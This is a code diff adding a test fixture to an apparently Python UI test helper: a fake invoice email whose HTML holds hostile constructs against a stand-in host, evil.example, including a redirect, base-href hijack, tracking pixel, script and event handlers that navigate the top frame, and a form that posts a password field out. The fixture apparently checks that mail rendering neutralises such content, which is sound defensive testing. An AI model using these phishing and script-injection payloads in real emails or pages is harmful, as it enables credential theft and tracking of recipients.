@@ -7,6 +7,7 @@ from dataclasses import replace
 from datetime import date
 from typing import TYPE_CHECKING
 
+from fetchers.mail import shown
 from model.documents import EvidenceSource
 from model.errors import WrongInput
 from model.memory import Printed
@@ -14,6 +15,19 @@ from model.people import User
 from model.teaching import LearnedView, Said
 from model.views import DocumentView, FieldView, SidesView
 from parsers import sandbox
+
+MAIL = b"""From: a@supplier.example
+Subject: Your invoice
+Content-Type: text/html; charset=utf-8
+
+<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/m">
+<link rel="dns-prefetch" href="//evil.example"><base href="https://evil.example/"></head>
+<body style="background:url(https://evil.example/b.png)" onload="parent.hurt=1">
+<h1>Your invoice is ready</h1><script>parent.hurt=1; top.location='https://evil.example/'</script>
+<img src="https://evil.example/pixel.png" onerror="parent.hurt=1">
+<a href="https://evil.example/pay" target="_top">Pay now</a>
+<form action="https://evil.example/f"><input name="password"></form></body></html>
+"""
 
 if TYPE_CHECKING:
     from tests.ui.sample_desk import SampleDesk
@@ -51,6 +65,10 @@ class SampleEvidence:
 
     def xml(self, document_id: str) -> str:
         return f"<Invoice><ID>{self._desk.document(document_id).number}</ID></Invoice>"
+
+    def mail_page(self, mail_id: str) -> bytes:
+        assert self._desk.mail(mail_id).page
+        return shown.page(MAIL)
 
     def correct(self, user: User, document_id: str, said: Said) -> str:
         self._desk.note(user, f"correct {document_id} {said.name} {said.value}")
